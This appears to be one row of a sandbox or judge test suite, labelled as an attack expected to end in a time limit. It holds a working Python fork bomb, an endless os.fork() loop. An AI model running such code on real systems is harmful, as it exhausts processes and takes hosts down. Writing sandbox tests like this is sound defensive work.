# row: I1
# attack: forks for ever
# problem: split stdio
# verdict: time_limit
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
